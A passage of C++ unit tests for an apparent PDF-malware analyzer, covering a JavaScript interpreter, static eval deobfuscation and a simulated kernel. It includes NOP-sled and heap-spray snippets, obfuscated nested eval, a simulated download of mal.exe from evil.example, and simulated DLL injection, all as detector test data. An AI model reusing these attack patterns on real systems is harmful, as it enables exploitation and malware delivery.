  EXPECT_DOUBLE_EQ(run_number("var n = 0; function boom() { n = 99; return 1; }"
                              " var x = 0 && boom(); var result = n;"),
                   0);
}

TEST(JsInterp, CompoundAssignmentAndUpdate) {
  EXPECT_DOUBLE_EQ(run_number("var x = 10; x += 5; x -= 3; x *= 2; var result = x;"), 24);
  EXPECT_DOUBLE_EQ(run_number("var x = 5; var y = x++; var result = y * 10 + x;"), 56);
  EXPECT_DOUBLE_EQ(run_number("var x = 5; var y = ++x; var result = y * 10 + x;"), 66);
  EXPECT_DOUBLE_EQ(run_number("var a = [1]; a[0] += 4; var result = a[0];"), 5);
}

// ---------------------------------------------------------------------------
// Builtins
// ---------------------------------------------------------------------------

TEST(JsBuiltins, StringMethods) {
  EXPECT_EQ(run_string("var result = 'hello'.toUpperCase();"), "HELLO");
  EXPECT_DOUBLE_EQ(run_number("var result = 'hello'.length;"), 5);
  EXPECT_EQ(run_string("var result = 'hello'.charAt(1);"), "e");
  EXPECT_DOUBLE_EQ(run_number("var result = 'ABC'.charCodeAt(0);"), 65);
  EXPECT_DOUBLE_EQ(run_number("var result = 'hello'.indexOf('ll');"), 2);
  EXPECT_EQ(run_string("var result = 'hello'.substring(1, 3);"), "el");
  EXPECT_EQ(run_string("var result = 'hello'.substr(1, 3);"), "ell");
  EXPECT_EQ(run_string("var result = 'hello'.slice(-3);"), "llo");
  EXPECT_EQ(run_string("var result = 'a,b,c'.split(',').join('+');"), "a+b+c");
  EXPECT_EQ(run_string("var result = 'aXbXc'.replace('X', '-');"), "a-bXc");
}

TEST(JsBuiltins, StringFromCharCode) {
  EXPECT_EQ(run_string("var result = String.fromCharCode(72, 105);"), "Hi");
}

TEST(JsBuiltins, UnescapePercentU) {
  // The classic shellcode idiom: %u9090 -> two 0x90 bytes.
  EXPECT_EQ(run_string("var result = unescape('%u9090');"),
            std::string("\x90\x90"));
  EXPECT_EQ(run_string("var result = unescape('%41%42');"), "AB");
  EXPECT_EQ(run_string("var result = unescape('plain');"), "plain");
}

TEST(JsBuiltins, ParseIntAndFloat) {
  EXPECT_DOUBLE_EQ(run_number("var result = parseInt('42');"), 42);
  EXPECT_DOUBLE_EQ(run_number("var result = parseInt('0x1F');"), 31);
  EXPECT_DOUBLE_EQ(run_number("var result = parseInt('101', 2);"), 5);
  EXPECT_DOUBLE_EQ(run_number("var result = parseFloat('2.5rest');"), 2.5);
  EXPECT_TRUE(run_bool("var result = isNaN(parseInt('zz'));"));
}

TEST(JsBuiltins, MathFunctions) {
  EXPECT_DOUBLE_EQ(run_number("var result = Math.floor(3.9);"), 3);
  EXPECT_DOUBLE_EQ(run_number("var result = Math.ceil(3.1);"), 4);
  EXPECT_DOUBLE_EQ(run_number("var result = Math.pow(2, 10);"), 1024);
  EXPECT_DOUBLE_EQ(run_number("var result = Math.min(3, 1, 2);"), 1);
  EXPECT_DOUBLE_EQ(run_number("var result = Math.max(3, 1, 2);"), 3);
  EXPECT_TRUE(run_bool("var r = Math.random(); var result = r >= 0 && r < 1;"));
}

TEST(JsBuiltins, EvalRunsInCallerScope) {
  EXPECT_DOUBLE_EQ(run_number("var x = 10; var result = eval('x + 5');"), 15);
  EXPECT_DOUBLE_EQ(run_number("eval('var q = 3;'); var result = q;"), 3);
  // eval inside a function sees locals.
  EXPECT_DOUBLE_EQ(run_number("function f() { var local = 7;"
                              " return eval('local * 2'); }"
                              " var result = f();"),
                   14);
}

TEST(JsBuiltins, NestedEvalObfuscation) {
  // Multi-layer eval like real obfuscated droppers use.
  EXPECT_DOUBLE_EQ(
      run_number("var code = 'var result = 6 * 7;'; eval('eval(code)');"), 42);
}

TEST(JsBuiltins, ArraySortAndReverse) {
  EXPECT_EQ(run_string("var result = [3,1,2].sort().join('');"), "123");
  EXPECT_EQ(run_string("var result = [1,2,3].reverse().join('');"), "321");
}

// ---------------------------------------------------------------------------
// Engine instrumentation hooks
// ---------------------------------------------------------------------------

TEST(JsEngine, AllocationMeteringTracksSprayGrowth) {
  js::Interpreter in;
  std::uint64_t observed = 0;
  in.on_alloc = [&](std::size_t n) { observed += n; };
  // Doubling spray to 1 MiB.
  in.run_source("var s = unescape('%u9090%u9090');"
                "while (s.length < 1048576) s += s;");
  EXPECT_GE(observed, 1u << 20);
  EXPECT_GE(in.allocated_bytes(), 1u << 20);
}

TEST(JsEngine, LargeStringHookFires) {
  js::Interpreter in;
  std::size_t largest = 0;
  in.large_string_threshold = 64 * 1024;
  in.on_large_string = [&](const std::string& s) {
    largest = std::max(largest, s.size());
  };
  in.run_source("var s = 'A'; while (s.length < 200000) s += s;");
  EXPECT_GE(largest, 200000u / 2);
}

TEST(JsEngine, BenignScriptAllocatesLittle) {
  js::Interpreter in;
  in.run_source("var total = 0; for (var i = 0; i < 100; i++) total += i;"
                "var msg = 'total is ' + total;");
  EXPECT_LT(in.allocated_bytes(), 16u * 1024);
}

TEST(JsEngine, StepLimitStopsRunawayScripts) {
  js::Interpreter in;
  in.set_step_limit(10000);
  EXPECT_THROW(in.run_source("while (true) {}"), sp::JsError);
}

TEST(JsEngine, MathRandomIsDeterministicPerSeed) {
  js::Interpreter a, b;
  a.run_source("var r = Math.random();");
  b.run_source("var r = Math.random();");
  EXPECT_DOUBLE_EQ(a.globals()->lookup("r")->as_number(),
                   b.globals()->lookup("r")->as_number());
}

TEST(JsEngine, HostObjectsCallableFromScript) {
  js::Interpreter in;
  int calls = 0;
  auto host = js::make_object();
  host->class_name = "Probe";
  host->set("ping", js::Value(js::make_native_function(
                        [&calls](js::Interpreter&, const js::Value&,
                                 const std::vector<js::Value>& args) {
                          ++calls;
                          return args.empty() ? js::Value() : args[0];
                        })));
  in.set_global("probe", js::Value(host));
  in.run_source("var result = probe.ping(11) + probe.ping(31);");
  EXPECT_EQ(calls, 2);
  EXPECT_DOUBLE_EQ(in.globals()->lookup("result")->as_number(), 42);
}

TEST(JsEngine, ThisInsideHostMethodIsHostObject) {
  js::Interpreter in;
  auto host = js::make_object();
  host->set("tag", js::Value("host-tag"));
  host->set("self", js::Value(js::make_native_function(
                        [](js::Interpreter&, const js::Value& thisv,
                           const std::vector<js::Value>&) {
                          return thisv.as_object()->get("tag");
                        })));
  in.set_global("h", js::Value(host));
  in.run_source("var result = h.self();");
  EXPECT_EQ(in.globals()->lookup("result")->as_string(), "host-tag");
}

// Parameterized sweep over expression/expected-value pairs.
struct ExprCase {
  const char* src;
  double expect;
};

class JsExprSweep : public ::testing::TestWithParam<ExprCase> {};

TEST_P(JsExprSweep, EvaluatesCorrectly) {
  const auto& p = GetParam();
  EXPECT_DOUBLE_EQ(run_number(std::string("var result = ") + p.src + ";"), p.expect);
}

INSTANTIATE_TEST_SUITE_P(
    Mixed, JsExprSweep,
    ::testing::Values(
        ExprCase{"1 + 2 * 3 - 4 / 2", 5}, ExprCase{"(1 + 2) * (3 + 4)", 21},
        ExprCase{"0x10 + 0x20", 48}, ExprCase{"'abc'.length * 2", 6},
        ExprCase{"[1,2,3,4].length", 4}, ExprCase{"1 < 2 ? 10 : 20", 10},
        ExprCase{"(5 & 3) | 8", 9}, ExprCase{"2 + +'3'", 5},
        ExprCase{"!!'' ? 1 : 0", 0}, ExprCase{"!!'x' ? 1 : 0", 1},
        ExprCase{"Math.floor(7 / 2)", 3}, ExprCase{"'12' * 2", 24},
        ExprCase{"1e2 + 1", 101}, ExprCase{"(function(x){return x*x;})(9)", 81}));
