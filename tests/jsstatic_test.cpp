// Static JS abstract-interpretation pass: constant-lattice folding of the
// deobfuscation idioms (unescape / fromCharCode / replace / join / concat
// loops), sink resolution with recursive eval re-parsing, indicator facts,
// allocation caps, and — the load-bearing property — a differential check
// that every eval payload the runtime engine actually evaluates is either
// statically resolved to the identical string or flagged non-constant.
#include <algorithm>
#include <set>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "core/jschain.hpp"
#include "corpus/generator.hpp"
#include "jsstatic/analyzer.hpp"
#include "jsstatic/indicators.hpp"
#include "pdf/parser.hpp"
#include "reader/reader_sim.hpp"
#include "sys/kernel.hpp"

namespace pdfshield {
namespace {

using jsstatic::Caps;
using jsstatic::Report;
using jsstatic::SinkSite;

Report analyze(const std::string& src, const Caps& caps = {}) {
  return jsstatic::analyze_script(src, caps);
}

/// The single eval sink of a report that must have exactly one resolved
/// payload; fails the test otherwise.
std::string only_eval_payload(const Report& rep) {
  EXPECT_EQ(rep.sinks.size(), 1u);
  if (rep.sinks.size() != 1) return "";
  const SinkSite& s = rep.sinks[0];
  EXPECT_EQ(s.kind, "eval");
  EXPECT_FALSE(s.non_constant);
  EXPECT_EQ(s.resolved.size(), 1u);
  return s.resolved.empty() ? "" : s.resolved[0];
}

TEST(JsStatic, ResolvesPlainEvalLiteral) {
  const Report rep = analyze("eval('app.alert(1)');");
  EXPECT_TRUE(rep.parse_ok);
  EXPECT_FALSE(rep.truncated);
  EXPECT_EQ(only_eval_payload(rep), "app.alert(1)");
}

TEST(JsStatic, FoldsUnescapeChains) {
  // %XX and %uXXXX forms, concatenated through a variable.
  const Report rep = analyze(
      "var a = unescape('%61%70%70');"
      "var b = '.alert(' + (1 + 1) + ')';"
      "eval(a + b);");
  EXPECT_EQ(only_eval_payload(rep), "app.alert(2)");
}

TEST(JsStatic, FoldsFromCharCodeAndJoin) {
  const Report rep = analyze(
      "var parts = [String.fromCharCode(97, 112, 112), '.alert', '(3)'];"
      "eval(parts.join(''));");
  EXPECT_EQ(only_eval_payload(rep), "app.alert(3)");
}

TEST(JsStatic, FoldsReplaceChains) {
  const Report rep = analyze(
      "var s = 'aXpXpX.alert(4)';"
      "while (s.indexOf('X') >= 0) { s = s.replace('X', ''); }"
      "eval(s);");
  EXPECT_EQ(only_eval_payload(rep), "app.alert(4)");
}

TEST(JsStatic, FoldsConcatLoops) {
  const Report rep = analyze(
      "var s = '';"
      "for (var i = 0; i < 3; i++) { s += 'ab'; }"
      "eval('\"' + s + '\"');");
  EXPECT_EQ(only_eval_payload(rep), "\"ababab\"");
}

TEST(JsStatic, RecursesIntoResolvedEvalPayloads) {
  // The outer payload is itself a program whose eval must be resolved at
  // depth 1 (nested payload assembled from char codes).
  const Report rep = analyze(
      "eval(\"eval(String.fromCharCode(97) + 'pp.beep()')\");");
  EXPECT_TRUE(rep.parse_ok);
  ASSERT_EQ(rep.sinks.size(), 2u);
  // Depth 1 = the outer payload's program; its own resolved eval payload
  // is re-parsed and analyzed at depth 2.
  EXPECT_EQ(rep.max_eval_depth_seen, 2u);
  std::set<std::string> payloads;
  for (const SinkSite& s : rep.sinks) {
    EXPECT_FALSE(s.non_constant);
    for (const std::string& p : s.resolved) payloads.insert(p);
  }
  EXPECT_TRUE(payloads.count("eval(String.fromCharCode(97) + 'pp.beep()')"));
  EXPECT_TRUE(payloads.count("app.beep()"));
}

TEST(JsStatic, TracksAliasedEval) {
  const Report rep = analyze("var e = eval; var s = 'x = 1'; e(s);");
  EXPECT_EQ(only_eval_payload(rep), "x = 1");
}

TEST(JsStatic, ResolvesDelayedSinks) {
  const Report rep = analyze(
      "app.setTimeOut('app.alert(9)', 100);"
      "app.setInterval('tick()', 50);"
      "this.addScript('later', 'app.beep()');");
  ASSERT_EQ(rep.sinks.size(), 3u);
  std::set<std::string> kinds;
  for (const SinkSite& s : rep.sinks) {
    kinds.insert(s.kind);
    ASSERT_EQ(s.resolved.size(), 1u);
    EXPECT_FALSE(s.non_constant);
  }
  EXPECT_EQ(kinds, (std::set<std::string>{"setTimeOut", "setInterval",
                                          "addScript"}));
}

TEST(JsStatic, UnknownValuesFlagNonConstant) {
  // Document metadata is runtime input: the argument must be flagged, not
  // guessed.
  const Report rep = analyze("eval(this.info.Title);");
  ASSERT_EQ(rep.sinks.size(), 1u);
  EXPECT_TRUE(rep.sinks[0].non_constant);
  EXPECT_TRUE(rep.sinks[0].resolved.empty());
}

TEST(JsStatic, BranchDependentPayloadIsNonConstant) {
  // Both arms record, but the unknown condition poisons the merged value.
  const Report rep = analyze(
      "var s = 'a()'; if (app.viewerVersion > 8) { s = 'b()'; } eval(s);");
  ASSERT_EQ(rep.sinks.size(), 1u);
  EXPECT_TRUE(rep.sinks[0].non_constant);
}

TEST(JsStatic, FunctionSideEffectsPoisonGlobals) {
  // Calling an unknown function may run f, which rebinds x: resolving the
  // pre-call constant would be unsound.
  const Report rep = analyze(
      "function f() { x = 'evil()'; }"
      "var x = 'benign()';"
      "app.doc.unknownKick(f);"
      "eval(x);");
  ASSERT_EQ(rep.sinks.size(), 1u);
  EXPECT_TRUE(rep.sinks[0].non_constant);
}

TEST(JsStatic, EvalDepthBombTruncates) {
  // eval("eval(\"eval(...)\")") nested past the depth cap: analysis stops
  // at the cap, keeps the already-resolved sinks, and marks truncation.
  std::string inner = "app.alert(1)";
  for (int i = 0; i < 8; ++i) {
    std::string quoted = "'";
    for (char c : inner) {
      if (c == '\'' || c == '\\') quoted.push_back('\\');
      quoted.push_back(c);
    }
    quoted.push_back('\'');
    inner = "eval(" + quoted + ")";
  }
  Caps caps;
  caps.max_eval_depth = 3;
  const Report rep = analyze(inner + ";", caps);
  EXPECT_TRUE(rep.parse_ok);
  EXPECT_TRUE(rep.truncated);
  EXPECT_LE(rep.max_eval_depth_seen, 3u);
  // The depth-capped payload is reported as unresolved, never dropped.
  bool capped = false;
  for (const SinkSite& s : rep.sinks) capped = capped || s.non_constant;
  EXPECT_TRUE(capped);
}

TEST(JsStatic, GigabyteConcatLoopStaysBounded) {
  // 2^30 bytes requested; folding must cap at max_string_bytes and flag
  // truncation instead of materializing the string.
  const Report rep = analyze(
      "var s = 'AAAAAAAAAAAAAAAA';"
      "for (var i = 0; i < 26; i++) { s = s + s; }"
      "eval(s);");
  EXPECT_TRUE(rep.truncated);
  EXPECT_LE(rep.longest_string, Caps{}.max_string_bytes);
  ASSERT_EQ(rep.sinks.size(), 1u);
  EXPECT_TRUE(rep.sinks[0].non_constant);
}

TEST(JsStatic, NodeVisitBudgetTruncates) {
  Caps caps;
  caps.max_node_visits = 200;
  const Report rep = analyze(
      "var n = 0; for (var i = 0; i < 1000; i++) { n = n + 1; }", caps);
  EXPECT_TRUE(rep.parse_ok);
  EXPECT_TRUE(rep.truncated);
  EXPECT_LE(rep.node_visits, caps.max_node_visits + 1);
}

TEST(JsStatic, DetectsNopSledAndShellcode) {
  const Report rep = analyze(
      "var sled = unescape('%u9090%u9090%u9090%u9090%u9090%u9090');"
      "var payload = sled + 'SC{EXEC:c:/x.exe;HUNT:4}';"
      "eval(payload);");
  EXPECT_TRUE(rep.nop_sled);
  EXPECT_TRUE(rep.shellcode);
  EXPECT_GE(rep.longest_string, 12u);
}

TEST(JsStatic, DetectsHeapSprayLoopShape) {
  const Report rep = analyze(
      "var chunk = unescape('%u9090%u9090');"
      "var block = '';"
      "while (block.length < 1048576) { block = block + chunk; }"
      "var spray = [];"
      "for (var i = 0; i < 100; i++) { spray[i] = block + 'SC{HUNT:2}'; }");
  EXPECT_TRUE(rep.heap_spray_loop);
  EXPECT_GE(rep.spray_target_bytes, 1048576u);
}

TEST(JsStatic, CountsSuspiciousApis) {
  const Report rep = analyze(
      "this.exportDataObject({cName: 'payload'});"
      "var icon = this.getIcon('x');"
      "app.media.newPlayer(null);");
  EXPECT_EQ(rep.suspicious_apis.count("exportDataObject"), 1u);
  EXPECT_EQ(rep.suspicious_apis.count("getIcon"), 1u);
  EXPECT_EQ(rep.suspicious_apis.count("newPlayer"), 1u);
  EXPECT_GE(rep.suspicious_api_count(), 3u);
}

TEST(JsStatic, ObfuscationScoreSeparatesEscapeHeavyCode) {
  const Report plain = analyze(
      "var total = this.getField('price').value * 1.08;"
      "this.getField('total').value = total;");
  const Report obf = analyze(
      "var _0xf3a = unescape('%u4141%u4141%u4242%u4242%u4343%u4343');"
      "var _0x9bc = unescape('%41%42%43%44%45%46%47%48');");
  EXPECT_GT(obf.escape_density, plain.escape_density);
  EXPECT_GT(obf.obfuscation_score, plain.obfuscation_score);
}

TEST(JsStatic, BenignFormScriptIsProvenClean) {
  const Report rep = analyze(
      "var price = this.getField('price').value;"
      "var qty = this.getField('qty').value;"
      "this.getField('total').value = price * qty;");
  EXPECT_TRUE(rep.parse_ok);
  EXPECT_TRUE(rep.sink_free());
  EXPECT_TRUE(rep.proven_clean());
}

TEST(JsStatic, AnythingShortOfProofDisqualifiesPrefilter) {
  // Parse failure, truncation, a sink, or an indicator each break the
  // prefilter contract on their own.
  EXPECT_FALSE(analyze("var x = ;").proven_clean());
  EXPECT_FALSE(analyze("eval('x = 1');").proven_clean());
  EXPECT_FALSE(analyze("app.setTimeOut('f()', 9);").proven_clean());
  EXPECT_FALSE(
      analyze("this.exportDataObject({cName: 'a'});").proven_clean());
  Caps tiny;
  tiny.max_node_visits = 4;
  EXPECT_FALSE(
      analyze("var a = 1; var b = 2; var c = a + b;", tiny).proven_clean());
}

TEST(JsStatic, DocumentReportMergesScripts) {
  const std::vector<std::string> sources = {
      "var x = 1;",
      "eval('app.alert(1)');",
      "this.getIcon('i');",
  };
  const Report rep = jsstatic::analyze_scripts(sources);
  EXPECT_TRUE(rep.parse_ok);
  EXPECT_EQ(rep.scripts, 4u);  // 3 document scripts + 1 eval payload
  EXPECT_EQ(rep.sinks.size(), 1u);
  EXPECT_EQ(rep.suspicious_apis.count("getIcon"), 1u);
  EXPECT_FALSE(rep.proven_clean());

  const Report empty = jsstatic::analyze_scripts({});
  EXPECT_TRUE(empty.proven_clean());
}

TEST(JsStatic, ReportJsonShape) {
  const Report rep = analyze("eval('app.alert(1)');");
  const std::string json = rep.to_json().dump(2);
  for (const char* key :
       {"\"parse_ok\"", "\"truncated\"", "\"scripts\"", "\"sinks\"",
        "\"resolved\"", "\"indicators\"", "\"obfuscation_score\"",
        "\"proven_clean\""}) {
    EXPECT_NE(json.find(key), std::string::npos) << "missing " << key;
  }
}

TEST(JsStaticIndicators, NopSledForms) {
  EXPECT_TRUE(jsstatic::has_nop_sled(std::string(8, '\x90')));
  EXPECT_FALSE(jsstatic::has_nop_sled(std::string(7, '\x90')));
  EXPECT_TRUE(jsstatic::has_nop_sled("prefix %u9090%u9090 suffix"));
  EXPECT_FALSE(jsstatic::has_nop_sled("%u9090 alone"));
}

// ---------------------------------------------------------------------------
// Differential check against the runtime engine
// ---------------------------------------------------------------------------

/// True when the statically computed report explains `payload` reaching an
/// eval: some sink resolved exactly that string, or some sink admits it
/// could not prove its argument, or a cap fired (results are a lower
/// bound by contract).
bool statically_explained(const Report& rep, const std::string& payload) {
  if (rep.truncated || !rep.parse_ok) return true;
  for (const SinkSite& s : rep.sinks) {
    if (s.non_constant) return true;
    if (std::find(s.resolved.begin(), s.resolved.end(), payload) !=
        s.resolved.end()) {
      return true;
    }
  }
  return false;
}

// Every eval payload the runtime engine evaluates on the synthetic corpus
// must be statically explained. This is the soundness property the batch
// prefilter leans on: a sink the static pass misses entirely would let a
// malicious document skip detonation.
TEST(JsStaticDifferential, RuntimeEvalsAreStaticallyExplained) {
  corpus::CorpusConfig cfg;
  cfg.seed = 0xD1FF;
  corpus::CorpusGenerator gen(cfg);
  std::vector<corpus::Sample> samples = gen.generate_malicious(24);
  for (auto& s : gen.generate_benign_with_js(8)) {
    samples.push_back(std::move(s));
  }

  std::size_t runtime_evals = 0, resolved_exactly = 0;
  for (const corpus::Sample& sample : samples) {
    SCOPED_TRACE(sample.name);

    // Static side: the same reconstructed sources the front-end feeds the
    // analyzer.
    pdf::Document doc = pdf::parse_document(sample.data);
    doc.decompress_all();
    std::vector<std::string> sources;
    for (const auto& site : core::analyze_js_chains(doc).sites) {
      sources.push_back(site.source);
    }
    const Report rep = jsstatic::analyze_scripts(sources);

    // Runtime side: open the original document in the simulated reader and
    // collect every string the engine's eval builtin actually evaluates.
    // Crash-family samples abort mid-script; the evals collected up to the
    // abort still count.
    std::vector<std::string> evals;
    sys::Kernel kernel;
    reader::ReaderSim reader(kernel);
    reader.on_eval = [&](const std::string& src) { evals.push_back(src); };
    try {
      reader.open_document(sample.data, sample.name);
    } catch (const std::exception&) {
    }

    for (const std::string& payload : evals) {
      ++runtime_evals;
      EXPECT_TRUE(statically_explained(rep, payload))
          << "runtime eval not statically explained: "
          << payload.substr(0, 200);
      for (const SinkSite& s : rep.sinks) {
        if (std::find(s.resolved.begin(), s.resolved.end(), payload) !=
            s.resolved.end()) {
          ++resolved_exactly;
          break;
        }
      }
    }
  }
  // The corpus must actually exercise the property, and the analyzer must
  // resolve a sizable share of payloads exactly (not just flag everything
  // non-constant).
  EXPECT_GT(runtime_evals, 10u);
  EXPECT_GT(resolved_exactly, runtime_evals / 4);
}

}  // namespace
}  // namespace pdfshield
