// Tests for the simulated kernel: processes, file system, network, API
// dispatch, hook semantics (observe/veto), AppInit injection, sandboxing.
#include <gtest/gtest.h>

#include "support/error.hpp"
#include "sys/kernel.hpp"

namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

TEST(Vfs, WriteReadRemove) {
  sy::VirtualFileSystem fs;
  fs.write("a.txt", sp::to_bytes("hello"));
  EXPECT_TRUE(fs.exists("a.txt"));
  ASSERT_NE(fs.read("a.txt"), nullptr);
  EXPECT_EQ(sp::to_string(*fs.read("a.txt")), "hello");
  EXPECT_TRUE(fs.remove("a.txt"));
  EXPECT_FALSE(fs.exists("a.txt"));
  EXPECT_EQ(fs.read("missing"), nullptr);
}

TEST(Vfs, QuarantineMovesFile) {
  sy::VirtualFileSystem fs;
  fs.write("evil.exe", sp::to_bytes("MZ"));
  const std::string dest = fs.quarantine("evil.exe");
  EXPECT_FALSE(fs.exists("evil.exe"));
  EXPECT_TRUE(fs.exists(dest));
  EXPECT_TRUE(sy::VirtualFileSystem::is_quarantined(dest));
  EXPECT_EQ(fs.quarantine("missing"), "");
}

TEST(Kernel, CreatesProcessesWithDistinctPids) {
  sy::Kernel k;
  auto& a = k.create_process("AcroRd32.exe");
  auto& b = k.create_process("notepad.exe");
  EXPECT_NE(a.pid(), b.pid());
  EXPECT_EQ(k.process(a.pid())->image(), "AcroRd32.exe");
  EXPECT_EQ(k.process(99999), nullptr);
}

TEST(Kernel, MemoryAccounting) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  p.alloc(100);
  p.alloc(50);
  EXPECT_EQ(p.memory_bytes(), 150u);
  p.free(60);
  EXPECT_EQ(p.memory_bytes(), 90u);
  p.free(1000);  // clamps at zero
  EXPECT_EQ(p.memory_bytes(), 0u);
}

TEST(Kernel, AppInitRunsOnEveryNewProcess) {
  sy::Kernel k;
  std::vector<std::string> seen;
  k.set_appinit([&](sy::Process& p) { seen.push_back(p.image()); });
  k.create_process("AcroRd32.exe");
  k.create_process("calc.exe");
  EXPECT_EQ(seen, (std::vector<std::string>{"AcroRd32.exe", "calc.exe"}));
}

TEST(Kernel, TrampolineStyleSelectiveHooking) {
  // The paper's trampoline DLL: install hooks only in PDF readers.
  sy::Kernel k;
  k.set_appinit([&](sy::Process& p) {
    if (p.image() == "AcroRd32.exe") {
      k.install_hook(p.pid(), "NtCreateFile",
                     [](const sy::ApiEvent&) { return sy::ApiOutcome::kAllow; });
    }
  });
  auto& reader = k.create_process("AcroRd32.exe");
  auto& other = k.create_process("winword.exe");
  EXPECT_TRUE(k.has_hooks(reader.pid()));
  EXPECT_FALSE(k.has_hooks(other.pid()));
}

TEST(Kernel, NtCreateFileWritesFile) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  auto r = k.call_api(p.pid(), "NtCreateFile", {"c:/tmp/drop.exe", "MZ90"});
  EXPECT_TRUE(r.allowed);
  EXPECT_TRUE(r.succeeded);
  EXPECT_TRUE(k.fs().exists("c:/tmp/drop.exe"));
}

TEST(Kernel, UrlDownloadRecordsNetworkAndDropsPe) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  auto r = k.call_api(p.pid(), "URLDownloadToFile",
                      {"http://evil.example/mal.exe", "c:/mal.exe"});
  EXPECT_TRUE(r.succeeded);
  ASSERT_EQ(k.net().log().size(), 1u);
  EXPECT_EQ(k.net().log()[0].host, "http://evil.example/mal.exe");
  const auto* data = k.fs().read("c:/mal.exe");
  ASSERT_NE(data, nullptr);
  EXPECT_EQ(sp::to_string(*data).substr(0, 2), "MZ");
}

TEST(Kernel, ProcessCreationApiSpawnsChild) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  auto r = k.call_api(p.pid(), "NtCreateProcess", {"c:/mal.exe"});
  ASSERT_TRUE(r.succeeded);
  const int child_pid = std::atoi(r.value.c_str());
  ASSERT_NE(k.process(child_pid), nullptr);
  EXPECT_EQ(k.process(child_pid)->image(), "c:/mal.exe");
}

TEST(Kernel, DllInjectionTargetsOtherProcess) {
  sy::Kernel k;
  auto& attacker = k.create_process("AcroRd32.exe");
  auto& victim = k.create_process("explorer.exe");
  auto r = k.call_api(attacker.pid(), "CreateRemoteThread",
                      {std::to_string(victim.pid()), "evil.dll"});
  EXPECT_TRUE(r.succeeded);
  ASSERT_EQ(victim.injected_dlls().size(), 1u);
  EXPECT_EQ(victim.injected_dlls()[0], "evil.dll");
}

TEST(Kernel, HooksObserveArgsAndMemory) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  p.alloc(1234);
  sy::ApiEvent captured;
  k.install_hook(p.pid(), "connect", [&](const sy::ApiEvent& e) {
    captured = e;
    return sy::ApiOutcome::kAllow;
  });
  k.call_api(p.pid(), "connect", {"10.0.0.1", "443"});
  EXPECT_EQ(captured.api, "connect");
  ASSERT_EQ(captured.args.size(), 2u);
  EXPECT_EQ(captured.args[0], "10.0.0.1");
  EXPECT_EQ(captured.memory_bytes, 1234u);
}

TEST(Kernel, BlockingHookPreventsNativeEffect) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  k.install_hook(p.pid(), "CreateRemoteThread",
                 [](const sy::ApiEvent&) { return sy::ApiOutcome::kBlock; });
  auto& victim = k.create_process("explorer.exe");
  auto r = k.call_api(p.pid(), "CreateRemoteThread",
                      {std::to_string(victim.pid()), "evil.dll"});
  EXPECT_FALSE(r.allowed);
  EXPECT_TRUE(victim.injected_dlls().empty());
}

TEST(Kernel, HooksOnlyApplyToTheirProcess) {
  sy::Kernel k;
  auto& hooked = k.create_process("AcroRd32.exe");
  auto& freep = k.create_process("AcroRd32.exe");
  int pre_fired = 0;
  k.install_hook(hooked.pid(), "listen", [&](const sy::ApiEvent& e) {
    if (!e.post) ++pre_fired;
    return sy::ApiOutcome::kAllow;
  });
  k.call_api(freep.pid(), "listen", {"8080"});
  EXPECT_EQ(pre_fired, 0);
  k.call_api(hooked.pid(), "listen", {"8080"});
  EXPECT_EQ(pre_fired, 1);
}

TEST(Kernel, HooksWrapNativeCallWithPrePostPhases) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  std::vector<std::string> phases;
  k.install_hook(p.pid(), "NtCreateFile", [&](const sy::ApiEvent& e) {
    if (e.post) {
      // Post phase: the native effect is visible.
      phases.push_back(k.fs().exists("x.txt") ? "post-exists" : "post-missing");
    } else {
      phases.push_back(k.fs().exists("x.txt") ? "pre-exists" : "pre-missing");
    }
    return sy::ApiOutcome::kAllow;
  });
  k.call_api(p.pid(), "NtCreateFile", {"x.txt", "data"});
  EXPECT_EQ(phases, (std::vector<std::string>{"pre-missing", "post-exists"}));
}

TEST(Kernel, BlockedCallSkipsPostPhase) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  int post_count = 0;
  k.install_hook(p.pid(), "NtCreateFile", [&](const sy::ApiEvent& e) {
    if (e.post) ++post_count;
    return sy::ApiOutcome::kBlock;
  });
  k.call_api(p.pid(), "NtCreateFile", {"y.txt", "data"});
  EXPECT_EQ(post_count, 0);
  EXPECT_FALSE(k.fs().exists("y.txt"));
}

TEST(Kernel, SandboxedProcessWritesAreJailed) {
  sy::Kernel k;
  auto& jailed = k.create_process("c:/mal.exe", /*sandboxed=*/true);
  k.call_api(jailed.pid(), "NtCreateFile", {"c:/windows/system32/bad.dll", "x"});
  EXPECT_FALSE(k.fs().exists("c:/windows/system32/bad.dll"));
  EXPECT_TRUE(k.fs().exists("sandbox://c:/windows/system32/bad.dll"));
}

TEST(Kernel, SandboxIsInheritedByChildren) {
  sy::Kernel k;
  auto& jailed = k.create_process("c:/mal.exe", /*sandboxed=*/true);
  auto r = k.call_api(jailed.pid(), "NtCreateProcess", {"c:/child.exe"});
  const int child = std::atoi(r.value.c_str());
  EXPECT_TRUE(k.process(child)->sandboxed());
}

TEST(Kernel, EggHuntApisAreObservableNoOps) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  for (const char* api : {"NtAccessCheckAndAuditAlarm", "IsBadReadPtr",
                          "NtDisplayString", "NtAddAtom"}) {
    EXPECT_TRUE(k.call_api(p.pid(), api, {}).succeeded) << api;
  }
  EXPECT_EQ(k.event_log().size(), 4u);
}

TEST(Kernel, UnknownApiOrPidThrows) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  EXPECT_THROW(k.call_api(p.pid(), "TotallyFakeApi", {}), sp::SysError);
  EXPECT_THROW(k.call_api(424242, "connect", {}), sp::SysError);
  EXPECT_THROW(k.install_hook(424242, "connect",
                              [](const sy::ApiEvent&) { return sy::ApiOutcome::kAllow; }),
               sp::SysError);
}

TEST(Kernel, TerminateMarksProcess) {
  sy::Kernel k;
  auto& p = k.create_process("c:/mal.exe");
  EXPECT_FALSE(p.terminated());
  k.terminate(p.pid());
  EXPECT_TRUE(p.terminated());
}

TEST(Kernel, EventLogRecordsEverything) {
  sy::Kernel k;
  auto& p = k.create_process("AcroRd32.exe");
  k.call_api(p.pid(), "connect", {"a", "1"});
  k.call_api(p.pid(), "listen", {"2"});
